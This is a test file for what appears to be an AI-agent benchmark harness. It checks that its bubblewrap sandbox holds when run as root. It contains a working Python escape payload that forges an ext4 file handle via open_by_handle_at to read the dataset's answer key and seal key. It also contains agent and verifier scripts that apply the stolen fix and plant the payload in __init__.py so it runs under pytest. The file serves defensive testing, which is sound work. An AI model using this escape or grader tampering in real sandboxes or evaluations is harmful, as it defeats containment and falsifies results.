import { existsSync, mkdirSync, readFileSync, readdirSync, realpathSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, posix, relative } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { cli } from "../helpers/cli.js";
import { skipWithout } from "../helpers/tools.js";
import { copySampleWithSessions } from "./fixture.js";

/**
 * Issue 32, class 1: out of the sandbox when the harness runs as root. A process that keeps root's
 * capabilities inside bubblewrap can forge a file handle for the root directory of a file system it
 * sees one file of (open_by_handle_at, CAP_DAC_READ_SEARCH) and open any file there by path from that
 * directory: the dataset's answer key, the run directory's seal key. Each attack below is the real
 * thing through the real CLI (`run --agent command`, then `verify`), and leaves a marker that shows
 * its payload ran and what the kernel answered, so that a 0 here is not an attack that never started.
 */

/** Where a path is inside its file system (its mount's root plus the rest), and that file system's type. */
function inFileSystem(path: string): { path: string; fstype: string } {
  const real = realpathSync(path);
  const unescape = (s: string) => s.replace(/\\([0-7]{3})/g, (_, o: string) => String.fromCharCode(parseInt(o, 8)));
  let best: { mountpoint: string; root: string; fstype: string } | null = null;
  for (const line of readFileSync("/proc/self/mountinfo", "utf8").trim().split("\n")) {
    const [left, right] = line.split(" - ");
    const f = left!.split(" ");
    const mountpoint = unescape(f[4]!);
    const inside = mountpoint === "/" || real === mountpoint || real.startsWith(`${mountpoint}/`);
    if (inside && (!best || mountpoint.length >= best.mountpoint.length))
      best = { mountpoint, root: unescape(f[3]!), fstype: right!.split(" ")[0]! };
  }
  return { path: posix.join(best!.root, relative(best!.mountpoint, real)), fstype: best!.fstype };
}

/**
 * The escape, in Python: a handle of a file it sees (name_to_handle_at on "."), then a forged handle for
 * inode 2 (the root directory of an ext4 file system; generation 0 matches any), opened with
 * open_by_handle_at, and the wanted files opened by path from there. Writes what happened to `marker`.
 */
const escapePy = String.raw`
import ctypes, os, struct
def escape(paths, marker):
    libc = ctypes.CDLL(None, use_errno=True)
    class FH(ctypes.Structure):
        _fields_ = [("handle_bytes", ctypes.c_uint), ("handle_type", ctypes.c_int), ("f_handle", ctypes.c_ubyte * 128)]
    log, got = [], {}
    fh = FH(); fh.handle_bytes = 128; mid = ctypes.c_int()
    r = libc.name_to_handle_at(-100, b".", ctypes.byref(fh), ctypes.byref(mid), 0)
    log.append("name_to_handle_at=%d %s" % (r, os.strerror(ctypes.get_errno()) if r else "ok"))
    root = FH(); root.handle_bytes = 8; root.handle_type = fh.handle_type if r == 0 else 1
    struct.pack_into("<II", root.f_handle, 0, 2, 0)
    fd = libc.open_by_handle_at(os.open(".", os.O_RDONLY), ctypes.byref(root), os.O_RDONLY | os.O_DIRECTORY)
    log.append("open_by_handle_at=%d %s" % (min(fd, 0), os.strerror(ctypes.get_errno()) if fd < 0 else "ok"))
    for p in paths if fd >= 0 else []:
        try:
            with os.fdopen(os.open(p.lstrip("/"), os.O_RDONLY, dir_fd=fd)) as f:
                got[p] = f.read()
            log.append("read %s: %s" % (p, got[p][:24].replace("\n", " ")))
        except OSError as e:
            log.append("cannot read %s: %s" % (p, e))
    with open(marker, "w") as m:
        m.write("escape payload ran: " + "; ".join(log) + "\n")
    return got
`;

const uid = process.getuid?.() ?? -1;
const fsProblem = (dir: string) => {
  const fs = inFileSystem(dir);
  return fs.fstype === "ext4" ? null : `the attack forges ext4 handles; ${dir} is on ${fs.fstype}`;
};

let root: string;
let dataset: string;
let sessions: string;
let focusSession: string;
let focusTask: string;
let env: NodeJS.ProcessEnv;
const skipWhy: string | null =
  uid !== 0
    ? "runs as root only (the attack needs the capabilities root keeps without the hardening)"
    : skipWithout(import.meta.url, "bwrap")
      ? "bwrap is missing"
      : fsProblem(tmpdir());

beforeAll(() => {
  if (skipWhy) return;
  // The dataset beside the run directory and the workspaces: one file system, the one the sandbox sees a file of.
  ({ root, dataset, sessions, env, focusTask } = copySampleWithSessions("switch-swe-escape-"));
  focusSession = `${focusTask}.base`;
}, 120_000);

interface Verdictish {
  resolved: boolean;
  tests: Record<string, string>;
}

/** Runs the attacking agent script in the focus's base session (sandboxed, the default), then verifies. */
function attack(name: string, script: string) {
  const out = join(root, name);
  // The script apart from the run directories: the sandbox binds it (read-only) where it is.
  mkdirSync(join(root, "scripts"), { recursive: true });
  const file = join(root, "scripts", `${name}.sh`);
  writeFileSync(file, `set -u\n${script}\n`);
  const run = cli(
    [
      "run",
      "--dataset",
      dataset,
      "--sessions",
      sessions,
      "--session",
      focusSession,
      "--out",
      out,
      "--agent",
      "command",
      "--agent-opt",
      `command=sh ${file}`,
      "--no-verify",
      "--quiet",
    ],
    { env },
  );
  expect(run.code, run.stderr).toBe(0);
  const verify = cli(["verify", out], { env });
  expect([0, 1], verify.stderr).toContain(verify.code);
  const dir = join(out, "sessions", focusSession);
  return {
    out,
    run,
    verdict: JSON.parse(readFileSync(join(dir, "verdict.json"), "utf8")) as Verdictish,
    artifact: readFileSync(join(dir, "artifact.patch"), "utf8"),
    log: readFileSync(join(dir, "verify.log"), "utf8"),
  };
}

const taskFiles = () => {
  const dir = join(dataset, "tasks", focusTask);
  return readdirSync(dir)
    .filter((f) => /^stage-\d+\.patch$/.test(f))
    .sort()
    .map((f) => join(dir, f));
};

describe.skipIf(skipWhy !== null)("class 1 of issue 32: no way out of the sandbox as root", () => {
  it("an agent that forges a file handle cannot read the dataset's answer key and apply it", () => {
    const stages = taskFiles().map((f) => inFileSystem(f).path);
    const testsPatch = inFileSystem(join(dataset, "tasks", focusTask, "tests.patch")).path;
    const script = [
      `cat > "$TMPDIR/escape.py" <<'PYEOF'\n${escapePy}\nimport sys\ngot = escape(sys.argv[2:], sys.argv[1])\nfor i, p in enumerate(sys.argv[3:]):\n    if p in got: open(os.environ.get("TMPDIR", "/tmp") + "/fix-%d.patch" % i, "w").write(got[p])\nif sys.argv[2] in got: open("escape-leak.txt", "w").write(got[sys.argv[2]])\nPYEOF`,
      `python3 "$TMPDIR/escape.py" escape-marker.txt '${testsPatch}' ${stages.map((s) => `'${s}'`).join(" ")}`,
      'for p in "$TMPDIR"/fix-*.patch; do [ -e "$p" ] && git apply --whitespace=nowarn "$p"; done',
      "true",
    ].join("\n");
    const r = attack("agent-escape", script);
    // The payload ran (its marker is in the artifact) and the kernel refused the handle calls.
    expect(r.artifact).toContain("escape payload ran");
    expect(r.artifact).toMatch(/name_to_handle_at=-1 Operation not permitted/);
    expect(r.artifact).toMatch(/open_by_handle_at=-1 Operation not permitted/);
    expect(r.artifact).not.toContain("escape-leak.txt");
    expect(r.verdict.resolved, JSON.stringify(r.verdict)).toBe(false);
    // run.json says what every sandbox applied.
    const config = JSON.parse(readFileSync(join(r.out, "run.json"), "utf8")) as {
      sandbox: { hardening: Record<string, { applied: boolean }> };
    };
    expect(config.sandbox.hardening).toMatchObject({
      user_namespace: { applied: true },
      capabilities: { applied: true },
      syscall_filter: { applied: true },
    });
  }, 300_000);

  it("code under test in the verifier that forges a file handle cannot read the answer key or the seal key to pass", () => {
    const out = join(root, "verifier-escape");
    const stages = taskFiles().map((f) => inFileSystem(f).path);
    const sealKey = posix.join(inFileSystem(root).path, "verifier-escape", "verdict.key");
    // Runs when the package is imported under pytest: escapes, applies the reference fix to the checkout
    // the tests run in, and re-imports the package from the fixed files. The marker goes out as a warning
    // (pytest prints a summary of them; the verify log keeps the run's output).
    const payload = [
      "import os as _esc_os",
      'if "PYTEST_CURRENT_TEST" in _esc_os.environ or "pytest" in __import__("sys").modules:',
      '    if not _esc_os.environ.get("ESC_DONE"):',
      '        _esc_os.environ["ESC_DONE"] = "1"',
      ...escapePy.split("\n").map((l) => `        ${l}`),
      `        _got = escape([${[...stages, sealKey].map((s) => JSON.stringify(s)).join(", ")}], "/tmp/escape-marker.txt")`,
      '        __import__("warnings").warn("ESCAPE-MARKER " + open("/tmp/escape-marker.txt").read().strip())',
      `        for _i, _p in enumerate([${stages.map((s) => JSON.stringify(s)).join(", ")}]):`,
      "            if _p in _got:",
      '                open("/tmp/fix-%d.patch" % _i, "w").write(_got[_p])',
      '                __import__("subprocess").run(["git", "apply", "--whitespace=nowarn", "/tmp/fix-%d.patch" % _i])',
      "        if _got:",
      "            import sys as _esc_sys",
      '            for _m in [m for m in _esc_sys.modules if m.startswith(__name__ + ".")]: del _esc_sys.modules[_m]',
      '            exec(compile(open(__file__).read(), __file__, "exec"), globals())',
    ].join("\n");
    const r = attack("verifier-escape", `for f in */__init__.py; do cat >> "$f" <<'PYEOF'\n${payload}\nPYEOF\ndone`);
    expect(r.out).toBe(out);
    expect(r.log).toContain("ESCAPE-MARKER escape payload ran");
    expect(r.log).toMatch(/open_by_handle_at=-1 Operation not permitted/);
    const key = readFileSync(join(out, "verdict.key"), "utf8").trim();
    expect(r.log).not.toContain(key.slice(0, 16));
    expect(r.verdict.resolved, JSON.stringify(r.verdict)).toBe(false);
  }, 300_000);

  it("inside, agent and verifier alike: CapEff 0, a filter, and a mount table that names no run, session, task or condition", () => {
    const out = join(root, "inside");
    const facts = "grep -E '^(Uid|CapEff|Seccomp):' /proc/self/status; cat /proc/self/mountinfo; pwd";
    const py = [
      "import subprocess as _s, warnings as _w",
      `_w.warn("INSIDE-FACTS " + _s.run(["sh", "-c", ${JSON.stringify(facts)}], capture_output=True, text=True).stdout.replace("\\n", " | "))`,
    ].join("\n");
    const r = attack("inside", `(${facts}) > inside-agent.txt\nfor f in */__init__.py; do cat >> "$f" <<'PYEOF'\n${py}\nPYEOF\ndone`);
    const agent = r.artifact;
    const verifier = /INSIDE-FACTS [^\n]*/.exec(r.log)?.[0] ?? "";
    expect(agent).toContain("+CapEff:\t0000000000000000");
    expect(agent).toMatch(/\+Seccomp:\t2/);
    // As root the sandbox's processes are an unprivileged host uid (issue 42), not a namespace's view of root.
    expect(agent).toMatch(/\+Uid:\t2000000000\t/);
    expect(verifier, r.log.slice(-3000)).toContain("CapEff:\t0000000000000000");
    expect(verifier).toMatch(/Seccomp:\t2/);
    for (const [side, text] of [
      ["agent", agent],
      ["verifier", verifier],
    ] as const) {
      for (const name of [out, "/inside/", focusTask, focusSession, ".base", "/sessions/"])
        expect(text, `${side} names ${name}`).not.toContain(name);
    }
    expect(existsSync(join(out, "run.json"))).toBe(true);
  }, 300_000);
});
